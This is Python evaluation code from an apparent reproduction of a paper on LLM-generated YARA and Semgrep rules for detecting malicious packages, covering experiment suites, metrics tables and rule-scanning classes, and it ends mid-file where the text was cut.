        """Detected variants / all variants (paper: 90.32%)."""
        if self.total_variants == 0:
            return 0.0
        return self.total_detected / self.total_variants

    @property
    def average_detection_rate(self) -> float:
        """Mean of per-group detection rates (paper: 96.62%)."""
        if not self.groups:
            return 0.0
        return sum(group.detection_rate for group in self.groups) / len(self.groups)


def variant_detection_experiment(
    malware: list[Package],
    config: RuleLLMConfig | None = None,
    seeds_per_group: int = 2,
    min_group_size: int = 3,
    max_groups: int | None = None,
) -> VariantDetectionResult:
    """Run the Section V-B experiment over a malware corpus.

    For every cluster with at least ``min_group_size`` members, rules are
    generated from ``seeds_per_group`` packages and evaluated on the rest.
    """
    config = config or RuleLLMConfig()
    result = VariantDetectionResult()
    if not malware:
        return result
    clusters = cluster_packages(
        malware,
        n_clusters=max(1, round(len(malware) / config.packages_per_cluster_hint)),
        similarity_threshold=config.cluster_similarity_threshold,
        random_seed=config.cluster_random_seed,
    )
    pipeline = RuleLLM(config)
    evaluated = 0
    for cluster_id, members in enumerate(clusters.clusters):
        if len(members) < min_group_size:
            continue
        if max_groups is not None and evaluated >= max_groups:
            break
        evaluated += 1
        seeds = members[:seeds_per_group]
        variants = members[seeds_per_group:]
        rules = pipeline.generate_rules_for_group(seeds, cluster_id=cluster_id)
        group_result = GroupVariantResult(
            cluster_id=cluster_id,
            seeds=[pkg.identifier for pkg in seeds],
            variants=len(variants),
            rules_generated=len(rules),
        )
        if rules.yara_rules or rules.semgrep_rules:
            scanner = RuleScanner(
                yara_rules=rules.compile_yara() if rules.yara_rules else None,
                semgrep_rules=rules.compile_semgrep() if rules.semgrep_rules else None,
            )
            for variant in variants:
                detection = scanner.scan_package(variant)
                if detection.match_count >= 1:
                    group_result.detected += 1
        result.groups.append(group_result)
    return result
