"""Category-overlap heatmap (paper Figure 11).

Rules can belong to several taxonomy categories at once; the heatmap counts,
for every pair of categories, how many rules carry both labels.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.categories import CATEGORIES
from repro.core.rules import GeneratedRule
from repro.core.taxonomy import RuleTaxonomyClassifier


@dataclass
class CategoryOverlap:
    """A symmetric category x category co-occurrence matrix."""

    matrix: list[list[int]] = field(default_factory=list)
    categories: tuple[str, ...] = CATEGORIES

    def value(self, category_a: str, category_b: str) -> int:
        i = self.categories.index(category_a)
        j = self.categories.index(category_b)
        return self.matrix[i][j]

    @property
    def max_overlap(self) -> int:
        return max((value for row in self.matrix for value in row), default=0)

    def most_overlapping_pairs(self, top: int = 5) -> list[tuple[str, str, int]]:
        pairs: list[tuple[str, str, int]] = []
        for i, row in enumerate(self.matrix):
            for j in range(i + 1, len(row)):
                if row[j] > 0:
                    pairs.append((self.categories[i], self.categories[j], row[j]))
        pairs.sort(key=lambda item: -item[2])
        return pairs[:top]


def category_overlap(rules: list[GeneratedRule],
                     classifier: RuleTaxonomyClassifier | None = None) -> CategoryOverlap:
    """Compute the Figure 11 heatmap for a set of generated rules."""
    classifier = classifier or RuleTaxonomyClassifier()
    return CategoryOverlap(matrix=classifier.category_overlap_matrix(rules))
