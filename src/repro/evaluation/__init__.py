"""Evaluation harness: metrics, detection, and one entry point per paper artefact.

``repro.evaluation.experiments`` exposes a function per table and figure of
the paper's evaluation section (Tables VI and VIII-XII, Figures 5-11, plus
the malware-variant experiment).  Each returns a structured result that knows
how to render itself next to the paper's reported values, and is what the
benchmark suite and the examples call.
"""

from repro.evaluation.metrics import ConfusionMatrix, classification_metrics
from repro.evaluation.detector import DetectionResult, PackageDetection, RuleScanner
from repro.evaluation.per_rule import PerRuleStats, per_rule_statistics, precision_histogram
from repro.evaluation.coverage import coverage_cdf
from repro.evaluation.matched_curve import matched_rule_curve
from repro.evaluation.variants import VariantDetectionResult, variant_detection_experiment
from repro.evaluation.overlap import category_overlap
from repro.evaluation.reporting import format_table, render_histogram, render_series

__all__ = [
    "ConfusionMatrix",
    "classification_metrics",
    "RuleScanner",
    "DetectionResult",
    "PackageDetection",
    "PerRuleStats",
    "per_rule_statistics",
    "precision_histogram",
    "coverage_cdf",
    "matched_rule_curve",
    "VariantDetectionResult",
    "variant_detection_experiment",
    "category_overlap",
    "format_table",
    "render_histogram",
    "render_series",
]
