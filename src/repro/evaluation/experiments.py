"""One entry point per table and figure of the paper's evaluation.

:class:`ExperimentSuite` owns a corpus and a RuleLLM run and lazily caches the
expensive intermediate products (generated rules, compiled rule sets,
detection results) so that regenerating all tables and figures costs one
pipeline run plus one scan per rule family.

Every ``table_*`` / ``figure_*`` method returns a small result object with a
``render()`` method that prints the regenerated values next to the numbers
the paper reports.  The benchmark suite under ``benchmarks/`` calls exactly
these methods.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from functools import cached_property

from repro.api.session import GenerationSession, SessionResult
from repro.baselines.community_rules import build_semgrep_scanner, build_yara_scanner
from repro.baselines.score_based import ScoreBasedRuleGenerator
from repro.categories import CATEGORIES, PAPER_TABLE_XII_COUNTS, SUBCATEGORIES
from repro.core.config import RuleLLMConfig
from repro.core.rules import GeneratedRuleSet
from repro.core.taxonomy import RuleTaxonomyClassifier
from repro.corpus.dataset import Dataset, DatasetConfig, build_dataset
from repro.evaluation.coverage import CoverageCdf, coverage_cdf
from repro.evaluation.detector import (
    DetectionResult,
    PreparedPackage,
    RuleScanner,
    prepare_packages,
)
from repro.evaluation.matched_curve import MatchedCurve, matched_rule_curve
from repro.evaluation.metrics import ConfusionMatrix
from repro.evaluation.overlap import CategoryOverlap, category_overlap
from repro.evaluation.per_rule import PerRuleStats, per_rule_statistics, precision_histogram
from repro.evaluation.reporting import format_table, percent, render_histogram, render_series
from repro.evaluation.variants import VariantDetectionResult, variant_detection_experiment

#: Reference values reported by the paper (used only for side-by-side display).
PAPER_TABLE_VIII = {
    "RuleLLM": (0.814, 0.852, 0.918, 0.884),
    "Yara scanner": (0.416, 0.350, 0.234, 0.280),
    "Semgrep scanner": (0.562, 0.709, 0.320, 0.440),
    "Score-based": (0.845, 0.478, 0.666, 0.557),
}
PAPER_TABLE_IX = {
    "GPT-3.5 turbo": (0.726, 0.784, 0.680, 0.728),
    "GPT-4o": (0.814, 0.852, 0.918, 0.884),
    "Claude-3.5-Sonnet": (0.750, 0.773, 0.959, 0.856),
    "Llama-3.1:70B": (0.782, 0.680, 0.726, 0.774),
}
PAPER_TABLE_X = {
    "LLMs alone": (0.629, 0.568),
    "LLM + Rule Alignment": (0.792, 0.843),
    "LLM + Basic-unit Rule + Rule Alignment": (0.819, 0.900),
    "LLM + Basic-unit Rule + Combination + Rule Alignment": (0.852, 0.918),
}
PAPER_TABLE_XI = {
    "Yara Rule Format": (4574, 46, 452),
    "Semgrep Rule Format": (2841, 334, 311),
}
PAPER_VARIANT_DETECTION = {"overall": 0.9032, "average": 0.9662}
PAPER_TABLE_VI = {
    "Malware": (3200, 1633, 424),
    "Legitimate": (500, 500, 3052),
}


# --------------------------------------------------------------------------------------
# result containers
# --------------------------------------------------------------------------------------

@dataclass
class MetricsRow:
    name: str
    metrics: ConfusionMatrix
    paper: tuple[float, ...] | None = None


@dataclass
class ComparisonResult:
    """A table of (system -> metrics) with paper reference values."""

    title: str
    rows: list[MetricsRow] = field(default_factory=list)

    def best_by_f1(self) -> str:
        return max(self.rows, key=lambda row: row.metrics.f1).name

    def row(self, name: str) -> MetricsRow:
        for row in self.rows:
            if row.name == name:
                return row
        raise KeyError(name)

    def render(self) -> str:
        table_rows = []
        for row in self.rows:
            paper = row.paper or ()
            table_rows.append([
                row.name,
                percent(row.metrics.accuracy),
                percent(row.metrics.precision),
                percent(row.metrics.recall),
                percent(row.metrics.f1),
                " / ".join(percent(v) for v in paper) if paper else "-",
            ])
        return format_table(
            ["system", "accuracy", "precision", "recall", "f1", "paper (acc/prec/rec/f1)"],
            table_rows,
            title=self.title,
        )


@dataclass
class AblationResult:
    title: str
    rows: list[MetricsRow] = field(default_factory=list)

    def render(self) -> str:
        table_rows = []
        for row in self.rows:
            paper = row.paper or ()
            table_rows.append([
                row.name,
                percent(row.metrics.precision),
                percent(row.metrics.recall),
                " / ".join(percent(v) for v in paper) if paper else "-",
            ])
        return format_table(["approach", "precision", "recall", "paper (prec/rec)"],
                            table_rows, title=self.title)


@dataclass
class DatasetTableResult:
    title: str
    rows: list[tuple[str, int, int, float]] = field(default_factory=list)

    def render(self) -> str:
        table_rows = []
        for name, total, unique, avg_loc in self.rows:
            paper = PAPER_TABLE_VI.get(name, ("-", "-", "-"))
            table_rows.append([name, total, unique, f"{avg_loc:.0f}",
                               f"{paper[0]} / {paper[1]} / {paper[2]}"])
        return format_table(
            ["category", "pkg num", "deduplicated", "avg LoC", "paper (pkg/dedup/LoC)"],
            table_rows, title=self.title,
        )


@dataclass
class RuleCountResult:
    title: str
    yara_generated: int = 0
    semgrep_generated: int = 0

    def render(self) -> str:
        rows = [
            ["Yara Rule Format", PAPER_TABLE_XI["Yara Rule Format"][0],
             PAPER_TABLE_XI["Yara Rule Format"][1], self.yara_generated,
             PAPER_TABLE_XI["Yara Rule Format"][2]],
            ["Semgrep Rule Format", PAPER_TABLE_XI["Semgrep Rule Format"][0],
             PAPER_TABLE_XI["Semgrep Rule Format"][1], self.semgrep_generated,
             PAPER_TABLE_XI["Semgrep Rule Format"][2]],
        ]
        return format_table(
            ["category", "SOTA all rules", "SOTA OSS rules", "RuleLLM (this run)", "RuleLLM (paper)"],
            rows, title=self.title,
        )


@dataclass
class TaxonomyResult:
    title: str
    counts: dict[str, dict[str, int]] = field(default_factory=dict)

    @property
    def total_labels(self) -> int:
        return sum(count for subs in self.counts.values() for count in subs.values())

    def category_totals(self) -> dict[str, int]:
        return {category: sum(subs.values()) for category, subs in self.counts.items()}

    def render(self) -> str:
        rows = []
        for category in CATEGORIES:
            for subcategory in SUBCATEGORIES[category]:
                generated = self.counts.get(category, {}).get(subcategory, 0)
                paper = PAPER_TABLE_XII_COUNTS[category][subcategory]
                rows.append([category, subcategory, generated, paper])
        return format_table(["category", "subcategory", "rules (this run)", "rules (paper)"],
                            rows, title=self.title)


@dataclass
class CurveResult:
    title: str
    curve: MatchedCurve = field(default_factory=MatchedCurve)

    def render(self) -> str:
        rows = [[point.matched_rules, percent(point.accuracy), percent(point.precision),
                 percent(point.recall), percent(point.f1)] for point in self.curve.points]
        return format_table(["matched rules >=", "accuracy", "precision", "recall", "f1"],
                            rows, title=self.title)


@dataclass
class HistogramResult:
    title: str
    series: list[tuple[str, int]] = field(default_factory=list)
    zero_match_rules: int = 0
    high_precision_rules: int = 0

    def render(self) -> str:
        body = render_histogram(self.series, title=self.title)
        return (f"{body}\n  rules with no matches: {self.zero_match_rules}"
                f"\n  rules with precision >= 0.95: {self.high_precision_rules}")


@dataclass
class CdfResult:
    title: str
    cdf: CoverageCdf = field(default_factory=CoverageCdf)

    def render(self) -> str:
        sampled = self.cdf.points[:: max(1, len(self.cdf.points) // 12)] or self.cdf.points
        body = render_series(sampled, title=self.title, value_format="{:.2f}")
        below10 = self.cdf.fraction_below(10)
        return f"{body}\n  fraction of rules covering < 10 packages: {below10:.2f}"


@dataclass
class OverlapResult:
    title: str
    overlap: CategoryOverlap = field(default_factory=CategoryOverlap)

    def render(self) -> str:
        headers = ["category"] + [str(i) for i in range(len(CATEGORIES))]
        rows = []
        for i, category in enumerate(CATEGORIES):
            rows.append([f"{i}. {category[:28]}"] + [str(v) for v in self.overlap.matrix[i]])
        top = self.overlap.most_overlapping_pairs(5)
        top_text = "\n".join(f"  {a} <-> {b}: {count}" for a, b, count in top)
        return format_table(headers, rows, title=self.title) + "\n\nlargest overlaps:\n" + top_text


@dataclass
class VariantResult:
    title: str
    result: VariantDetectionResult = field(default_factory=VariantDetectionResult)

    def render(self) -> str:
        return (f"{self.title}\n"
                f"  groups evaluated: {len(self.result.groups)}\n"
                f"  overall detection rate: {percent(self.result.overall_detection_rate)} "
                f"(paper: {percent(PAPER_VARIANT_DETECTION['overall'])})\n"
                f"  average detection rate: {percent(self.result.average_detection_rate)} "
                f"(paper: {percent(PAPER_VARIANT_DETECTION['average'])})")


# --------------------------------------------------------------------------------------
# the suite
# --------------------------------------------------------------------------------------

class ExperimentSuite:
    """Regenerate the paper's tables and figures on a (possibly scaled) corpus."""

    def __init__(self, dataset_config: DatasetConfig | None = None,
                 rulellm_config: RuleLLMConfig | None = None) -> None:
        self.dataset_config = dataset_config or DatasetConfig.medium()
        self.rulellm_config = rulellm_config or RuleLLMConfig.full()

    # -- cached intermediates ------------------------------------------------------
    @cached_property
    def dataset(self) -> Dataset:
        return build_dataset(self.dataset_config)

    @cached_property
    def session_result(self) -> SessionResult:
        """One full pipeline run over the corpus through the session API."""
        session = GenerationSession(config=self.rulellm_config)
        session.add_batch(self.dataset.malware)
        return session.generate()

    @cached_property
    def ruleset(self) -> GeneratedRuleSet:
        return self.session_result.rule_set

    @cached_property
    def prepared_packages(self) -> list[PreparedPackage]:
        """Scan inputs built once and shared by every scanner in the suite."""
        return prepare_packages(self.dataset.packages)

    @cached_property
    def detection(self) -> DetectionResult:
        scanner = RuleScanner(
            yara_rules=self.ruleset.compile_yara(),
            semgrep_rules=self.ruleset.compile_semgrep(),
        )
        return scanner.scan(self.prepared_packages)

    @cached_property
    def yara_detection(self) -> DetectionResult:
        scanner = RuleScanner(yara_rules=self.ruleset.compile_yara())
        return scanner.scan(self.prepared_packages)

    @cached_property
    def semgrep_detection(self) -> DetectionResult:
        scanner = RuleScanner(semgrep_rules=self.ruleset.compile_semgrep())
        return scanner.scan(self.prepared_packages)

    @cached_property
    def yara_rule_stats(self) -> list[PerRuleStats]:
        names = self.ruleset.compile_yara().rule_names()
        return per_rule_statistics(self.yara_detection, names)

    @cached_property
    def semgrep_rule_stats(self) -> list[PerRuleStats]:
        names = self.ruleset.compile_semgrep().rule_ids()
        return per_rule_statistics(self.semgrep_detection, names)

    @cached_property
    def taxonomy(self) -> RuleTaxonomyClassifier:
        return RuleTaxonomyClassifier()

    def _generate_with(self, config: RuleLLMConfig) -> GeneratedRuleSet:
        """Run the pipeline over the corpus under an alternative config."""
        session = GenerationSession(config=config)
        session.add_batch(self.dataset.malware)
        return session.generate().rule_set

    # -- Table VI ---------------------------------------------------------------------
    def table6_dataset(self) -> DatasetTableResult:
        stats = self.dataset.statistics()
        return DatasetTableResult(title="Table VI: dataset statistics", rows=stats.rows())

    # -- Table VIII --------------------------------------------------------------------
    def table8_baselines(self) -> ComparisonResult:
        result = ComparisonResult(title="Table VIII: RuleLLM vs baselines")
        result.rows.append(MetricsRow("RuleLLM", self.detection.metrics,
                                      PAPER_TABLE_VIII["RuleLLM"]))

        yara_scanner = build_yara_scanner()
        scanner = RuleScanner(yara_rules=yara_scanner.yara)
        result.rows.append(MetricsRow("Yara scanner", scanner.evaluate(self.prepared_packages),
                                      PAPER_TABLE_VIII["Yara scanner"]))

        semgrep_scanner = build_semgrep_scanner()
        scanner = RuleScanner(semgrep_rules=semgrep_scanner.semgrep)
        result.rows.append(MetricsRow("Semgrep scanner", scanner.evaluate(self.prepared_packages),
                                      PAPER_TABLE_VIII["Semgrep scanner"]))

        score_based = ScoreBasedRuleGenerator().generate(self.dataset.malware, self.dataset.benign)
        compiled = score_based.compile()
        if len(compiled):
            scanner = RuleScanner(yara_rules=compiled)
            metrics = scanner.evaluate(self.prepared_packages)
        else:
            metrics = ConfusionMatrix()
        result.rows.append(MetricsRow("Score-based", metrics, PAPER_TABLE_VIII["Score-based"]))
        return result

    # -- Table IX -----------------------------------------------------------------------
    def table9_llms(self, models: tuple[str, ...] = ("gpt-3.5-turbo", "gpt-4o",
                                                     "claude-3.5-sonnet", "llama-3.1-70b")) -> ComparisonResult:
        paper_names = {
            "gpt-3.5-turbo": "GPT-3.5 turbo",
            "gpt-4o": "GPT-4o",
            "claude-3.5-sonnet": "Claude-3.5-Sonnet",
            "llama-3.1-70b": "Llama-3.1:70B",
        }
        result = ComparisonResult(title="Table IX: rules generated by different LLMs")
        for model in models:
            config = RuleLLMConfig.full(model=model, seed=self.rulellm_config.seed)
            ruleset = self._generate_with(config)
            scanner = RuleScanner(yara_rules=ruleset.compile_yara(),
                                  semgrep_rules=ruleset.compile_semgrep())
            metrics = scanner.evaluate(self.prepared_packages)
            display = paper_names.get(model, model)
            result.rows.append(MetricsRow(display, metrics, PAPER_TABLE_IX.get(display)))
        return result

    # -- Table X -------------------------------------------------------------------------
    def table10_ablation(self) -> AblationResult:
        arms = [
            ("LLMs alone", RuleLLMConfig.llm_alone(self.rulellm_config.model,
                                                   self.rulellm_config.seed)),
            ("LLM + Rule Alignment", RuleLLMConfig.llm_with_alignment(
                self.rulellm_config.model, self.rulellm_config.seed)),
            ("LLM + Basic-unit Rule + Rule Alignment", RuleLLMConfig.basic_units_with_alignment(
                self.rulellm_config.model, self.rulellm_config.seed)),
            ("LLM + Basic-unit Rule + Combination + Rule Alignment", RuleLLMConfig.full(
                self.rulellm_config.model, self.rulellm_config.seed)),
        ]
        result = AblationResult(title="Table X: ablation of RuleLLM components")
        for name, config in arms:
            ruleset = self._generate_with(config)
            yara = ruleset.compile_yara()
            semgrep = ruleset.compile_semgrep()
            if len(yara) == 0 and len(semgrep) == 0:
                metrics = ConfusionMatrix(false_negative=len(self.dataset.malware),
                                          true_negative=len(self.dataset.benign))
            else:
                scanner = RuleScanner(yara_rules=yara if len(yara) else None,
                                      semgrep_rules=semgrep if len(semgrep) else None)
                metrics = scanner.evaluate(self.prepared_packages)
            result.rows.append(MetricsRow(name, metrics, PAPER_TABLE_X.get(name)))
        return result

    # -- Table XI --------------------------------------------------------------------------
    def table11_rule_counts(self) -> RuleCountResult:
        counts = self.ruleset.counts()
        return RuleCountResult(title="Table XI: rule inventory vs SOTA tools",
                               yara_generated=counts["yara"],
                               semgrep_generated=counts["semgrep"])

    # -- Table XII ---------------------------------------------------------------------------
    def table12_taxonomy(self) -> TaxonomyResult:
        counts = self.taxonomy.subcategory_counts(self.ruleset.rules)
        return TaxonomyResult(title="Table XII: rule taxonomy (non-exclusive)", counts=counts)

    # -- Figures 5 / 6 ----------------------------------------------------------------------
    def figure5_yara_matched_curve(self, max_threshold: int = 4) -> CurveResult:
        curve = matched_rule_curve(self.yara_detection, max_threshold=max_threshold)
        return CurveResult(title="Figure 5: YARA performance vs matched-rule count", curve=curve)

    def figure6_semgrep_matched_curve(self, max_threshold: int = 12) -> CurveResult:
        curve = matched_rule_curve(self.semgrep_detection, max_threshold=max_threshold)
        return CurveResult(title="Figure 6: Semgrep performance vs matched-rule count", curve=curve)

    # -- Figures 7 / 8 ------------------------------------------------------------------------
    def figure7_yara_precision(self) -> HistogramResult:
        histogram = precision_histogram(self.yara_rule_stats)
        series = [(f">= {edge:.1f}", count)
                  for edge, count in zip(histogram.bin_edges, histogram.counts)]
        return HistogramResult(title="Figure 7: YARA per-rule precision distribution",
                               series=series,
                               zero_match_rules=histogram.zero_match_rules,
                               high_precision_rules=histogram.high_precision_rules)

    def figure8_semgrep_precision(self) -> HistogramResult:
        histogram = precision_histogram(self.semgrep_rule_stats)
        series = [(f">= {edge:.1f}", count)
                  for edge, count in zip(histogram.bin_edges, histogram.counts)]
        return HistogramResult(title="Figure 8: Semgrep per-rule precision distribution",
                               series=series,
                               zero_match_rules=histogram.zero_match_rules,
                               high_precision_rules=histogram.high_precision_rules)

    # -- Figures 9 / 10 --------------------------------------------------------------------------
    def figure9_yara_coverage(self) -> CdfResult:
        return CdfResult(title="Figure 9: YARA rule coverage CDF",
                         cdf=coverage_cdf(self.yara_rule_stats))

    def figure10_semgrep_coverage(self) -> CdfResult:
        return CdfResult(title="Figure 10: Semgrep rule coverage CDF",
                         cdf=coverage_cdf(self.semgrep_rule_stats))

    # -- Figure 11 ---------------------------------------------------------------------------------
    def figure11_overlap(self) -> OverlapResult:
        return OverlapResult(title="Figure 11: category overlap heatmap",
                             overlap=category_overlap(self.ruleset.rules, self.taxonomy))

    # -- Section V-B: variants -----------------------------------------------------------------------
    def variant_detection(self, max_groups: int | None = None) -> VariantResult:
        result = variant_detection_experiment(self.dataset.malware, self.rulellm_config,
                                              max_groups=max_groups)
        return VariantResult(title="Malware variant detection (Section V-B)", result=result)

    # -- everything -------------------------------------------------------------------------------------
    def run_all(self, include_model_comparison: bool = False,
                include_ablation: bool = False) -> dict[str, object]:
        """Regenerate every artefact (the heavyweight comparisons are opt-in)."""
        results: dict[str, object] = {
            "table6": self.table6_dataset(),
            "table8": self.table8_baselines(),
            "table11": self.table11_rule_counts(),
            "table12": self.table12_taxonomy(),
            "fig5": self.figure5_yara_matched_curve(),
            "fig6": self.figure6_semgrep_matched_curve(),
            "fig7": self.figure7_yara_precision(),
            "fig8": self.figure8_semgrep_precision(),
            "fig9": self.figure9_yara_coverage(),
            "fig10": self.figure10_semgrep_coverage(),
            "fig11": self.figure11_overlap(),
            "variants": self.variant_detection(),
        }
        if include_model_comparison:
            results["table9"] = self.table9_llms()
        if include_ablation:
            results["table10"] = self.table10_ablation()
        return results
