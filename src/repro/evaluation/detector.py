"""Applying rule sets to a corpus and recording per-package detections.

A :class:`RuleScanner` bundles a compiled YARA rule set and/or a compiled
Semgrep rule set.  YARA scans the concatenated package text *plus* the
registry-metadata JSON (metadata-derived rules match there, mirroring how the
paper's rules fire on registry information); Semgrep scans the package's
Python AST.  A package is classified malicious when at least
``match_threshold`` rules fire.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.corpus.package import Package
from repro.evaluation.metrics import ConfusionMatrix
from repro.extraction.metadata import extract_metadata
from repro.semgrepx import CompiledSemgrepRuleSet, ScanTarget
from repro.yarax import CompiledRuleSet


@dataclass
class PackageDetection:
    """Detection outcome for a single package."""

    package: str
    actual_malicious: bool
    yara_rules: list[str] = field(default_factory=list)
    semgrep_rules: list[str] = field(default_factory=list)

    @property
    def matched_rules(self) -> list[str]:
        return self.yara_rules + self.semgrep_rules

    @property
    def match_count(self) -> int:
        return len(self.matched_rules)

    def predicted(self, threshold: int = 1) -> bool:
        return self.match_count >= threshold


@dataclass
class DetectionResult:
    """Detections for a whole corpus plus aggregate metrics."""

    detections: list[PackageDetection] = field(default_factory=list)
    match_threshold: int = 1

    def confusion(self, threshold: int | None = None) -> ConfusionMatrix:
        threshold = self.match_threshold if threshold is None else threshold
        matrix = ConfusionMatrix()
        for detection in self.detections:
            matrix.record(detection.actual_malicious, detection.predicted(threshold))
        return matrix

    @property
    def metrics(self) -> ConfusionMatrix:
        return self.confusion()

    def by_package(self) -> dict[str, PackageDetection]:
        return {detection.package: detection for detection in self.detections}

    def rule_hits(self) -> dict[str, list[PackageDetection]]:
        """Map each rule name/id to the packages it matched."""
        hits: dict[str, list[PackageDetection]] = {}
        for detection in self.detections:
            for rule in detection.matched_rules:
                hits.setdefault(rule, []).append(detection)
        return hits


class RuleScanner:
    """Scan packages with compiled YARA and/or Semgrep rule sets."""

    def __init__(
        self,
        yara_rules: CompiledRuleSet | None = None,
        semgrep_rules: CompiledSemgrepRuleSet | None = None,
        match_threshold: int = 1,
        include_metadata_in_text: bool = True,
    ) -> None:
        if yara_rules is None and semgrep_rules is None:
            raise ValueError("RuleScanner needs at least one rule set")
        self.yara_rules = yara_rules
        self.semgrep_rules = semgrep_rules
        self.match_threshold = match_threshold
        self.include_metadata_in_text = include_metadata_in_text

    # -- scanning ------------------------------------------------------------------
    def scan_package(self, package: Package) -> PackageDetection:
        detection = PackageDetection(
            package=package.identifier, actual_malicious=package.is_malicious
        )
        if self.yara_rules is not None and len(self.yara_rules):
            text = package.all_text
            if self.include_metadata_in_text:
                text = text + "\n" + extract_metadata(package).to_json()
            detection.yara_rules = sorted({m.rule_name for m in self.yara_rules.match(text)})
        if self.semgrep_rules is not None and len(self.semgrep_rules):
            target = ScanTarget.from_package(package)
            detection.semgrep_rules = sorted(
                {finding.rule_id for finding in self.semgrep_rules.match_target(target)}
            )
        return detection

    def scan(self, packages: list[Package]) -> DetectionResult:
        result = DetectionResult(match_threshold=self.match_threshold)
        for package in packages:
            result.detections.append(self.scan_package(package))
        return result

    def evaluate(self, packages: list[Package]) -> ConfusionMatrix:
        """Scan and reduce straight to a confusion matrix."""
        return self.scan(packages).confusion()
