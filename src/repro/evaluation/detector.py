"""Applying rule sets to a corpus and recording per-package detections.

A :class:`RuleScanner` bundles a compiled YARA rule set and/or a compiled
Semgrep rule set.  YARA scans the concatenated package text *plus* the
registry-metadata JSON (metadata-derived rules match there, mirroring how the
paper's rules fire on registry information); Semgrep scans the package's
Python AST.  A package is classified malicious when at least
``match_threshold`` rules fire.

Scan inputs (the YARA haystack and the parsed Semgrep target) are built once
per package via :class:`PreparedPackage` and reused across rule sets — the
evaluation suite scans the same corpus with many scanners, and
:mod:`repro.scanserve` scans the same package against many ruleset versions.
"""

from __future__ import annotations

import time
from dataclasses import dataclass, field
from typing import Iterable, Optional, Union

from repro.corpus.package import Package
from repro.evaluation.metrics import ConfusionMatrix
from repro.extraction.metadata import extract_metadata
from repro.semgrepx import CompiledSemgrepRuleSet, ScanTarget
from repro.utils.hashing import stable_digest
from repro.yarax import CompiledRuleSet


class PreparedPackage:
    """Per-package scan inputs, computed lazily and cached.

    Building the YARA haystack re-serialises the registry metadata and the
    Semgrep target re-parses every Python file; doing that once per package
    (instead of once per package *per rule set*) is the detector hot-path fix.
    """

    def __init__(self, package: Package, include_metadata_in_text: bool = True) -> None:
        self.package = package
        self.include_metadata_in_text = include_metadata_in_text
        self._yara_text: Optional[str] = None
        self._folded_text: Optional[str] = None
        self._folded_bytes: Optional[bytes] = None
        self._target: Optional[ScanTarget] = None
        self._fingerprint: Optional[str] = None
        self._metadata_json: Optional[str] = None
        self.prepare_seconds = 0.0

    @property
    def metadata_json(self) -> str:
        """The extracted registry metadata, serialised once and shared by the
        YARA haystack and the cache fingerprint."""
        if self._metadata_json is None:
            self._metadata_json = extract_metadata(self.package).to_json()
        return self._metadata_json

    @property
    def yara_text(self) -> str:
        """The haystack YARA rules scan (package text plus metadata JSON)."""
        if self._yara_text is None:
            start = time.perf_counter()
            text = self.package.all_text
            if self.include_metadata_in_text:
                text = text + "\n" + self.metadata_json
            self._yara_text = text
            self.prepare_seconds += time.perf_counter() - start
        return self._yara_text

    @property
    def folded_text(self) -> str:
        """``yara_text.casefold()``, computed once per package.

        Every atom-prefilter lane (candidate selection, gate checks, batch
        hit construction) scans the folded haystack; hoisting the fold here
        removes the per-engine-lane refolds the index used to pay.
        """
        if self._folded_text is None:
            start = time.perf_counter()
            self._folded_text = self.yara_text.casefold()
            self.prepare_seconds += time.perf_counter() - start
        return self._folded_text

    @property
    def folded_bytes(self) -> bytes:
        """UTF-8 encoding of :attr:`folded_text` for the packed automaton.

        Fold *then* encode — byte offsets are never mapped back to the
        original string, so casefold length changes are safe.
        """
        if self._folded_bytes is None:
            start = time.perf_counter()
            self._folded_bytes = self.folded_text.encode("utf-8", "surrogatepass")
            self.prepare_seconds += time.perf_counter() - start
        return self._folded_bytes

    @property
    def target(self) -> ScanTarget:
        """The parsed Semgrep scan target."""
        if self._target is None:
            start = time.perf_counter()
            self._target = ScanTarget.from_package(self.package)
            self.prepare_seconds += time.perf_counter() - start
        return self._target

    @property
    def fingerprint(self) -> str:
        """Content digest identifying the scan inputs (for result caching).

        Covers file paths *and* contents, the metadata JSON and the scan
        configuration — two packages scan identically iff their fingerprints
        are equal.
        """
        if self._fingerprint is None:
            parts = [self.package.identifier, str(self.include_metadata_in_text)]
            for f in self.package.files:
                parts.append(f.path)
                parts.append(f.content)
            parts.append(self.metadata_json)
            self._fingerprint = stable_digest("\x00".join(parts))
        return self._fingerprint


def prepare_packages(
    packages: Iterable[Package], include_metadata_in_text: bool = True
) -> list[PreparedPackage]:
    """Prepare a whole corpus for repeated scanning."""
    return [PreparedPackage(p, include_metadata_in_text) for p in packages]


@dataclass
class ScanTimings:
    """Wall-clock breakdown of a corpus scan (seconds)."""

    prepare_seconds: float = 0.0
    yara_seconds: float = 0.0
    semgrep_seconds: float = 0.0
    total_seconds: float = 0.0
    packages: int = 0

    @property
    def packages_per_second(self) -> float:
        return self.packages / self.total_seconds if self.total_seconds > 0 else 0.0

    def merge(self, other: "ScanTimings") -> None:
        self.prepare_seconds += other.prepare_seconds
        self.yara_seconds += other.yara_seconds
        self.semgrep_seconds += other.semgrep_seconds
        self.total_seconds += other.total_seconds
        self.packages += other.packages


@dataclass
class PackageDetection:
    """Detection outcome for a single package."""

    package: str
    actual_malicious: bool
    yara_rules: list[str] = field(default_factory=list)
    semgrep_rules: list[str] = field(default_factory=list)
    scan_seconds: float = field(default=0.0, compare=False)

    @property
    def matched_rules(self) -> list[str]:
        return self.yara_rules + self.semgrep_rules

    @property
    def match_count(self) -> int:
        return len(self.matched_rules)

    def predicted(self, threshold: int = 1) -> bool:
        return self.match_count >= threshold


@dataclass
class DetectionResult:
    """Detections for a whole corpus plus aggregate metrics."""

    detections: list[PackageDetection] = field(default_factory=list)
    match_threshold: int = 1
    timings: ScanTimings = field(default_factory=ScanTimings, compare=False)

    def confusion(self, threshold: int | None = None) -> ConfusionMatrix:
        threshold = self.match_threshold if threshold is None else threshold
        matrix = ConfusionMatrix()
        for detection in self.detections:
            matrix.record(detection.actual_malicious, detection.predicted(threshold))
        return matrix

    @property
    def metrics(self) -> ConfusionMatrix:
        return self.confusion()

    def by_package(self) -> dict[str, PackageDetection]:
        return {detection.package: detection for detection in self.detections}

    def rule_hits(self) -> dict[str, list[PackageDetection]]:
        """Map each rule name/id to the packages it matched."""
        hits: dict[str, list[PackageDetection]] = {}
        for detection in self.detections:
            for rule in detection.matched_rules:
                hits.setdefault(rule, []).append(detection)
        return hits


class RuleScanner:
    """Scan packages with compiled YARA and/or Semgrep rule sets.

    When ``index`` is given (a :class:`repro.scanserve.RuleIndex` built over
